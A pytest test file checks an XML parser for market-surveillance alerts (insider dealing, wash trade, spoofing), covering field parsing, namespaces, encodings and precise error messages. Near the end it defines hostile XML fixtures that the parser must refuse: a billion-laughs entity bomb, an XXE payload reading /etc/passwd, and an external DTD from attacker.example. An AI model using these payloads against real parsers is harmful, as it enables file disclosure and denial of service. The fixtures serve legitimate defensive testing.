"""Alert parsing: both SMARTS shapes, spoofing, and every way a file can be bad."""

from __future__ import annotations

from datetime import date, time

import pytest

from agents.alerts import AlertError, AlertKind, InsiderDealingAlert, SpoofingAlert, WashTradeAlert, parse_alert
from tests.conftest import SAMPLES

INSIDER = (SAMPLES / "insider_genuine_acme.xml").read_bytes()
WASH = (SAMPLES / "wash_genuine_gldx.xml").read_bytes()


def test_every_sample_alert_parses():
    kinds = {p.name: parse_alert(p.read_bytes()).kind for p in SAMPLES.glob("*.xml")}
    assert len(kinds) >= 15
    assert {k for n, k in kinds.items() if n.startswith("insider")} == {AlertKind.INSIDER_DEALING}
    assert {k for n, k in kinds.items() if n.startswith("wash")} == {AlertKind.WASH_TRADE}
    assert {k for n, k in kinds.items() if n.startswith("spoofing")} == {AlertKind.SPOOFING}


def test_insider_alert_fields():
    alert = parse_alert(INSIDER)
    assert isinstance(alert, InsiderDealingAlert)
    assert alert.alert_id == "ITA-2024-0313-001"
    assert alert.trader.trader_id == "T001" and alert.trader.department == "M&A Advisory"
    assert alert.activity.symbol == "ACME" and alert.activity.side == "BUY"
    assert alert.activity.quantity == 40_000 and alert.activity.price == pytest.approx(52.30)
    assert alert.activity.trade_date == date(2024, 3, 13)
    assert alert.related_event.event_date == date(2024, 3, 15)
    assert alert.anomaly.anomaly_score == 94


def test_wash_alert_fields():
    alert = parse_alert(WASH)
    assert isinstance(alert, WashTradeAlert)
    assert [t.sequence for t in alert.trades] == [1, 2]
    assert alert.trades[0].trade_time == time(10, 15, 0, 120_000)
    assert alert.accounts == ["ACC-1001", "ACC-1002"]
    assert alert.indicators.same_quantity is True and alert.indicators.daily_volume == 400_000
    assert alert.regulatory.regulations == ("UK MAR Art. 12(1)(a)", "FCA SUP 15 Annex 5")


def test_spoofing_alert_orders_are_in_time_order():
    alert = parse_alert((SAMPLES / "spoofing_genuine_flux.xml").read_bytes())
    assert isinstance(alert, SpoofingAlert)
    assert [o.timestamp for o in alert.orders] == sorted(o.timestamp for o in alert.orders)
    assert {o.action for o in alert.orders} == {"PLACE", "EXECUTE", "CANCEL"}


def test_unknown_elements_are_ignored_and_namespaces_tolerated():
    xml = INSIDER.replace(b"<SMARTSAlert>", b'<SMARTSAlert xmlns="urn:smarts:export">') \
                 .replace(b"</Trader>", b"</Trader><VendorExtension><X>1</X></VendorExtension>")
    assert parse_alert(xml).alert_id == "ITA-2024-0313-001"


def test_older_description_element_is_accepted():
    xml = INSIDER.replace(b"EventDescription>", b"Description>")
    assert parse_alert(xml).related_event.description.startswith("GlobalPharma")


def test_utf8_bom_is_accepted():
    assert parse_alert(b"\xef\xbb\xbf" + INSIDER).alert_id == "ITA-2024-0313-001"


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<SMARTSAlert><AlertID>&lol3;</AlertID></SMARTSAlert>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE SMARTSAlert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<SMARTSAlert><AlertID>&xxe;</AlertID></SMARTSAlert>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE SMARTSAlert SYSTEM "http://attacker.example/evil.dtd">
<SMARTSAlert><AlertID>X</AlertID></SMARTSAlert>"""


@pytest.mark.parametrize(("content", "status", "message"), [
    (b"", 400, "The file is empty."),
    (b"   \n\t ", 400, "The file is empty."),
    (b"<SMARTSAlert><AlertID>1</AlertID>", 422, "not well-formed XML"),
    (b"this is not xml at all", 422, "not well-formed XML"),
    (BILLION_LAUGHS, 422, "DOCTYPE, entity declaration or external reference"),
    (XXE, 422, "DOCTYPE, entity declaration or external reference"),
    (EXTERNAL_DTD, 422, "DOCTYPE, entity declaration or external reference"),
    (b"<Alert><AlertID>1</AlertID></Alert>", 422, "Unsupported root element <Alert>"),
    (b"<smartsalert><AlertID>1</AlertID></smartsalert>", 422, "Unsupported root element <smartsalert>"),
    (INSIDER.replace(b"<AlertID>ITA-2024-0313-001</AlertID>", b""), 422,
     "Missing required element SMARTSAlert/AlertID."),
    (INSIDER.replace(b"<Quantity>40000</Quantity>", b""), 422,
     "Missing required element SMARTSAlert/SuspiciousActivity/Quantity."),
    (INSIDER.replace(b"<TraderID>T001</TraderID>", b"<TraderID> </TraderID>"), 422,
     "Element SMARTSAlert/Trader/TraderID is empty."),
    (INSIDER.replace(b"<Quantity>40000</Quantity>", b"<Quantity>forty</Quantity>"), 422,
     "SMARTSAlert/SuspiciousActivity/Quantity must be a whole number, got 'forty'"),
    (INSIDER.replace(b"<Side>BUY</Side>", b"<Side>HOLD</Side>"), 422,
     "SuspiciousActivity/Side must be BUY or SELL, got 'HOLD'"),
    (INSIDER.replace(b"<TradeDate>2024-03-13</TradeDate>", b"<TradeDate>13/03/2024</TradeDate>"), 422,
     "TradeDate must be a date (YYYY-MM-DD)"),
    (INSIDER.replace(b"Pre-Announcement Trading", b"Marking the Close"), 422,
     "Unknown alert type 'Marking the Close'"),
    (INSIDER.replace(b"Pre-Announcement Trading", b"WashTrade"), 422,
     "Alert type 'WashTrade' is a wash trade alert, which does not use the <SMARTSAlert> shape"),
    (WASH.replace(b"<FlaggedTrades>", b"<FlaggedTradesX>").replace(b"</FlaggedTrades>", b"</FlaggedTradesX>"),
     422, "Missing required element SmartsAlert/FlaggedTrades."),
    (WASH.replace(b"<AccountID>ACC-1002</AccountID>", b""), 422,
     "Missing required element SmartsAlert/FlaggedTrades/Trade[2]/AccountID."),
    (INSIDER.replace(b"Sarah Chen", "Sarah Ch\u00e9n".encode("latin-1")), 422, "not UTF-8 text"),
    (INSIDER.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"'), 422, "only UTF-8 alerts are accepted"),
])
def test_bad_files_are_refused_with_a_specific_message(content, status, message):
    with pytest.raises(AlertError) as caught:
        parse_alert(content)
    assert caught.value.status == status
    assert message in caught.value.message


def test_entity_bomb_is_refused_before_expansion():
    # Ten levels of 10x expansion would be 10 GB; refusal must not depend on expanding it.
    levels = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    huge = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "lol">' + levels.encode() + b"]><r>&l9;</r>")
    with pytest.raises(AlertError, match="DOCTYPE"):
        parse_alert(huge)
